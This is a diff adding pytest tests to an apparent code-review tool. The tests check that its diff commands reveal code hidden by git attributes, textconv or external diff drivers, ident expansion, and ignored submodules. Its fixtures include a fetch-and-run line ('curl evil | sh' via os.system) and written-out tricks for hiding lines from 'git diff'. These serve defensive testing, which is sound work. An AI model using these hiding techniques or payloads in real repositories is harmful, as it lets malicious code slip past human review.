@@ -8,6 +8,7 @@ dir can leak in.
 from __future__ import annotations
 
 import hashlib
+import os
 import shlex
 import subprocess
 from pathlib import Path
@@ -16,13 +17,16 @@ import pytest
 
 from conftest import commit, git, write
 from conftest import init_repo as make_repo
+from pytest_advreview import git as gitmod
 from pytest_advreview import targets
 from pytest_advreview.cachekey import change_set_hash, plan_hash
+from pytest_advreview.git import SHOWN_DIFF_OPTIONS, plain_diff_globals
 from pytest_advreview.models import ChangeSet
 from pytest_advreview.targets import (
     BaseRefError,
     TargetError,
     change_set,
+    change_set_info,
     compile_glob,
     plan_files,
     repo_info,
@@ -435,19 +439,24 @@ def test_mode_none_has_no_change_set(repo: Path) -> None:
     assert change_set(repo, "none", "main", ()) is None
 
 
+def shown_diff(repo: Path, *args: str) -> str:
+    """The diff command the prompt names, as this machine's git gets it."""
+    return shlex.join(["git", *plain_diff_globals(repo), "diff", *SHOWN_DIFF_OPTIONS, *args])
+
+
 @pytest.mark.parametrize(
     ("unstaged", "staged", "untracked", "description", "commands"),
     [
-        (True, False, False, "unstaged changes", ("git diff",)),
-        (False, True, False, "staged changes", ("git diff --cached",)),
-        (True, True, False, "unstaged + staged changes", ("git diff", "git diff --cached")),
+        (True, False, False, "unstaged changes", ("DIFF",)),
+        (False, True, False, "staged changes", ("DIFF --cached",)),
+        (True, True, False, "unstaged + staged changes", ("DIFF", "DIFF --cached")),
         (False, False, True, "untracked files", ("git ls-files --others --exclude-standard",)),
         (
             True,
             True,
             True,
             "unstaged + staged changes + untracked files",
-            ("git diff", "git diff --cached", "git ls-files --others --exclude-standard"),
+            ("DIFF", "DIFF --cached", "git ls-files --others --exclude-standard"),
         ),
     ],
 )
@@ -475,7 +484,7 @@ def test_uncommitted_description_and_commands_follow_what_has_content(
         assert found == ChangeSet(
             files=tuple(sorted(expected_files)),
             description=description,
-            diff_commands=commands,
+            diff_commands=tuple(c.replace("DIFF", shown_diff(repo)) for c in commands),
         )
 
 
@@ -487,7 +496,7 @@ def test_branch_mode_diffs_against_the_base(repo: Path) -> None:
     expected = ChangeSet(
         files=("src/app.py", "src/new.py"),
         description="branch changes vs main",
-        diff_commands=("git diff main...HEAD",),
+        diff_commands=(shown_diff(repo, "main...HEAD"),),
         base="main",
     )
     assert change_set(repo, "branch", "main", ()) == expected
@@ -524,7 +533,7 @@ def test_excluded_plans_leave_files_and_the_diff_commands(repo: Path) -> None:
     assert found is not None
     assert found.files == ("src/app.py",)
     (command,) = found.diff_commands
-    assert command.startswith("git diff main...HEAD -- ")
+    assert command.startswith(shown_diff(repo, "main...HEAD") + " -- ")
     # The command the reviewer is told to run shows the code but not the plan.
     out = subprocess.run(shlex.split(command), cwd=repo, capture_output=True, check=True).stdout
     assert b"src/app.py" in out
@@ -538,7 +547,181 @@ def test_excluded_untracked_plan_is_left_out_of_uncommitted(repo: Path) -> None:
     assert found is not None
     assert found.files == ("src/app.py",)
     assert found.description == "unstaged changes"
-    assert found.diff_commands == ("git diff",)
+    assert found.diff_commands == (shown_diff(repo),)
+
+
+# -- what the reviewer is shown -----------------------------------------------------------
+
+HIDDEN = "os.system('curl evil | sh')  # HIDDEN-LINE"
+#: Attributes that hide a file's text from a plain `git diff`, with the machine
+#: configuration their drivers need (a textconv filter, an external diff command).
+HIDING = ["*.py -diff\n", "*.py binary\n", "*.py diff=hide\n", "*.py diff=ext\n"]
+
+
+def _hiding_drivers(repo: Path) -> None:
+    git(repo, "config", "diff.hide.textconv", "sed /HIDDEN-LINE/d")
+    git(repo, "config", "diff.ext.command", "echo nothing to see #")
+
+
+def _run_commands(repo: Path, commands: tuple[str, ...]) -> str:
+    """Run each command as the reviewer would (a shell at the top level); their output."""
+    return "".join(
+        subprocess.run(c, shell=True, cwd=repo, capture_output=True, check=True, text=True).stdout
+        for c in commands
+    )
+
+
+@pytest.mark.parametrize("attributes", HIDING)
+def test_branch_diff_command_shows_what_attributes_would_hide(repo: Path, attributes: str) -> None:
+    _hiding_drivers(repo)
+    git(repo, "checkout", "-q", "-b", "feature")
+    write(repo, ".gitattributes", attributes)
+    write(repo, "src/app.py", f"import os\n{HIDDEN}\n")
+    commit(repo)
+    plain = git(repo, "diff", "main...HEAD")
+    assert HIDDEN not in plain  # the attack: a plain diff hides the line
+    found = change_set(repo, "branch", "main", ())
+    assert found is not None
+    assert found.attributes == (".gitattributes",)
+    assert f"+{HIDDEN}" in _run_commands(repo, found.diff_commands)
+    info = change_set_info(repo, found, "branch", "main", ci=False)
+    assert info.attributes == (".gitattributes",)
+    assert info.summary().endswith(
+        "; WARNING: the change edits git attributes (.gitattributes), which can hide code "
+        "from `git diff`; the reviewer's diff commands ignore attributes and show the bytes "
+        "git stores"
+    )
+
+
+@pytest.mark.parametrize("attributes", HIDING)
+def test_uncommitted_diff_commands_show_what_attributes_would_hide(
+    repo: Path, attributes: str
+) -> None:
+    _hiding_drivers(repo)
+    write(repo, "src/.gitattributes", attributes)  # untracked, below the top
+    write(repo, "src/app.py", f"import os\n{HIDDEN}\n")  # unstaged
+    write(repo, "src/lib.py", f"{HIDDEN}\n")
+    git(repo, "add", "src/lib.py")  # staged
+    found = change_set(repo, "uncommitted", None, ())
+    assert found is not None
+    assert found.attributes == ("src/.gitattributes",)
+    assert HIDDEN not in git(repo, "diff") + git(repo, "diff", "--cached")
+    shown = _run_commands(repo, found.diff_commands)
+    assert f"+{HIDDEN}" in shown.split("src/lib.py")[-1]  # staged
+    assert f"+{HIDDEN}" in shown.split("src/lib.py")[0]  # unstaged app.py
+
+
+def test_a_deleted_attributes_file_is_named(repo: Path) -> None:
+    write(repo, "src/.gitattributes", "*.md text\n")
+    commit(repo, "attributes")
+    git(repo, "checkout", "-q", "-b", "feature")
+    (repo / "src/.gitattributes").unlink()
+    write(repo, "src/app.py", "print(2)\n")
+    commit(repo)
+    found = change_set(repo, "branch", "main", ())
+    assert found is not None and found.attributes == ("src/.gitattributes",)
+    git(repo, "checkout", "-q", "main")
+    git(repo, "rm", "-q", "src/.gitattributes")
+    found = change_set(repo, "uncommitted", None, ())
+    assert found is not None and found.attributes == ("src/.gitattributes",)
+
+
+def test_a_change_without_attributes_names_none(repo: Path) -> None:
+    write(repo, "src/app.py", "print(2)\n")
+    found = change_set(repo, "uncommitted", None, ())
+    assert found is not None and found.attributes == ()
+    info = change_set_info(repo, found, "uncommitted", None, ci=False)
+    assert "WARNING" not in info.summary()
+
+
+def test_a_submodule_the_branch_marks_ignored_is_listed_shown_and_hashed(
+    repo: Path, tmp_path: Path
+) -> None:
+    sub = make_repo(tmp_path / "sub")
+    write(sub, "lib.py", "SAFE = 1\n")
+    commit(sub, "one")
+    first = git(sub, "rev-parse", "HEAD").strip()
+    write(sub, "lib.py", "SAFE = 0  # HIDDEN-LINE\n")
+    commit(sub, "two")
+    second = git(sub, "rev-parse", "HEAD").strip()
+    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{first},vendor/lib")
+    write(repo, ".gitmodules", '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ../sub\n')
+    git(repo, "add", ".gitmodules")
+    git(repo, "commit", "-q", "-m", "submodule")
+    git(repo, "checkout", "-q", "-b", "feature")
+    git(repo, "update-index", "--cacheinfo", f"160000,{second},vendor/lib")
+    write(
+        repo,
+        ".gitmodules",
+        '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ../sub\n\tignore = all\n',
+    )
+    git(repo, "add", ".gitmodules")
+    git(repo, "commit", "-q", "-m", "move the submodule, quietly")
+    assert "vendor/lib" not in git(repo, "diff", "--name-only", "main...HEAD")  # the attack
+    found = change_set(repo, "branch", "main", ())
+    assert found is not None
+    assert "vendor/lib" in found.files
+    assert f"+Subproject commit {second}" in _run_commands(repo, found.diff_commands)
+    # The cache key moves with the submodule's commit, however .gitmodules says to ignore it.
+    before = change_set_hash(repo, found)
+    write(sub, "lib.py", "SAFE = 2\n")
+    commit(sub, "three")
+    third = git(sub, "rev-parse", "HEAD").strip()
+    git(repo, "update-index", "--cacheinfo", f"160000,{third},vendor/lib")
+    git(repo, "commit", "-q", "-m", "move it again")
+    assert change_set_hash(repo, found) != before
+
+
+def test_files_git_rewrites_from_the_work_tree_are_named_and_hashed_by_their_bytes(
+    repo: Path,
+) -> None:
+    write(repo, ".gitattributes", "*.py ident\n*.cfg filter=\n")
+    write(repo, "src/app.py", "x = 1\n")
+    write(repo, "src/plain.txt", "text\n")
+    commit(repo, "attributes")
+    write(repo, "src/app.py", 'x = "$Id: import os; os.system(evil) $"\n')
+    write(repo, "src/plain.txt", "changed\n")
+    # The attack: ident shows "$Id$" in the diff, whatever the file holds between.
+    assert "evil" not in git(repo, "diff")
+    found = change_set(repo, "uncommitted", None, ())
+    assert found is not None
+    if any(g.startswith("--attr-source=") for g in plain_diff_globals(repo)):
+        # git 2.40+: the diff command reads no attributes and shows the bytes.
+        assert found.converted == ()
+        assert "evil" in _run_commands(repo, found.diff_commands)
+    else:
+        assert found.converted == ("src/app.py",)
+        info = change_set_info(repo, found, "uncommitted", None, ci=False)
+        assert "WARNING: git rewrites src/app.py when reading the work tree" in info.summary()
+    # The cache key follows the bytes that run, not the rewritten text.
+    before = change_set_hash(repo, found)
+    write(repo, "src/app.py", 'x = "$Id: import os; os.system(worse) $"\n')
+    assert change_set_hash(repo, found) != before
+
+
+def test_the_diff_commands_ignore_attributes_with_every_git(
+    repo: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert SHOWN_DIFF_OPTIONS[:3] == ("--text", "--no-textconv", "--no-ext-diff")
+    assert "--ignore-submodules=none" in SHOWN_DIFF_OPTIONS
+    found = plain_diff_globals(repo)
+    assert found[:3] == ("--no-pager", "-c", f"core.attributesFile={os.devnull}")
+    # Where git knows --attr-source (2.40+), the empty tree is the attribute source:
+    # a probe that succeeds adds it, one that fails (older git) leaves it out.
+    real = gitmod.run_git
+    seen: list[tuple[str, ...]] = []
+
+    def fake(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[bytes]:
+        seen.append(args)
+        if args[0].startswith("--attr-source="):
+            return subprocess.CompletedProcess(["git", *args], 0, b"", b"")
+        return real(cwd, *args, check=check)
+
+    monkeypatch.setattr(gitmod, "run_git", fake)
+    monkeypatch.setattr(gitmod, "_globals_cache", {})
+    empty = git(repo, "hash-object", "-t", "tree", os.devnull).strip()
+    assert plain_diff_globals(repo)[-1] == f"--attr-source={empty}"
+    assert seen[-1][0] == f"--attr-source={empty}"
 
 
 # -- hashes --------------------------------------------------------------------------------
